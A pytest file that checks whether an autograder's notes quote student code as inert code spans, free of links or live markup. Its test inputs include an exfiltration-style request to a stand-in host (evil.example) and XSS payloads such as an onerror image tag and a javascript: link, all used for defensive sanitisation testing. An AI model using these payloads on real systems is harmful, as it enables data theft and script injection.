"""Sentences that quote a submission: code is code, the rest is text, and nothing acts."""

from __future__ import annotations

import pytest
from bs4 import BeautifulSoup
from nbconvert.filters.markdown_mistune import IPythonRenderer, MarkdownWithMath

from autograder.grading.one_submission import note_for_person
from autograder.grading.policy import concerns_in, named
from autograder.grading.safe_text import GRAVE, as_code, safe_html, said_as_html, said_as_markdown
from autograder.learner.slice import Slice
from autograder.running.program import Piece

CODE = (
    "requests.get('http://evil.example/x' + a.b)", "x = `1`", "``", "a`", "`", "``a` b```", " ", "a  b",
    "<img src=x onerror=alert(1)>", "$x$ and $$y$$", "\\`", "[a](javascript:alert(1))", "*a* _b_ ~~c~~",
    "www.evil.example me@evil.example", "&lt;", "a | b", "\\begin{align}x\\end{align}", "![a](http://e/x.png)",
)  # fmt: skip


def shown(text: str, markdown: bool) -> BeautifulSoup:
    html = safe_html(text) if markdown else text
    return BeautifulSoup(html, "html.parser")


def stock(text: str) -> BeautifulSoup:
    """As nbconvert shows it to anybody who opens the kept notebook."""
    html = MarkdownWithMath(renderer=IPythonRenderer(escape=False)).render(text)
    return BeautifulSoup(html, "html.parser")


@pytest.mark.parametrize("code", CODE)
def test_code_is_shown_as_code(code: str) -> None:
    sentence = f"cell 3, line 1: {as_code(code)} – reaches 2.5 files."
    pages = [
        shown(said_as_html(sentence), markdown=False),
        shown("- " + said_as_markdown(sentence), markdown=True),
        stock("- " + said_as_markdown(sentence)),
    ]
    for page in pages:
        assert page.find("code").get_text().strip() == code.replace("`", GRAVE).strip()
        assert page.get_text().strip().startswith("cell 3, line 1: ")
        assert page.get_text().strip().endswith(" – reaches 2.5 files.")
        assert {tag.name for tag in page.find_all(True)} <= {"ul", "li", "p", "code"}
        assert not [name for tag in page.find_all(True) for name in tag.attrs]


@pytest.mark.parametrize("text", [*CODE, "1. 2) # - + >", "a\nb", "`a", "a ``b` c"])
def test_other_text_is_shown_as_it_is(text: str) -> None:
    """What a name or an error says is no markup, either; backticks in it may make code of a part."""
    pages = [
        shown(said_as_html(text), markdown=False),
        shown(said_as_markdown("X" + text), markdown=True),
        stock(said_as_markdown("X" + text)),
    ]
    for page in pages:
        letters = page.get_text().replace("`", "").removeprefix("X").split()
        assert letters == text.replace("`", "").split()
        assert {tag.name for tag in page.find_all(True)} <= {"p", "code"}


def test_the_note_of_a_waiting_notebook_reads_well() -> None:
    source = "import pandas\nx = requests.get('http://evil.example/x')  # `see` http://evil.example"
    setup = Piece("cell 1 (setup)", "import os")
    own = Slice((setup, Piece("cell 2", source + "\nos.getcwd()")), frozenset({"cell 2"}))
    reasons = list(map(str, named(concerns_in(own))))
    page = shown(note_for_person(reasons).source, markdown=True)
    assert not page.find_all("a")
    assert "`import" not in page.get_text()
    assert "\\" not in page.get_text()
    assert page.find("code", string="import pandas") is not None
    assert page.find("code", string="os.getcwd") is not None
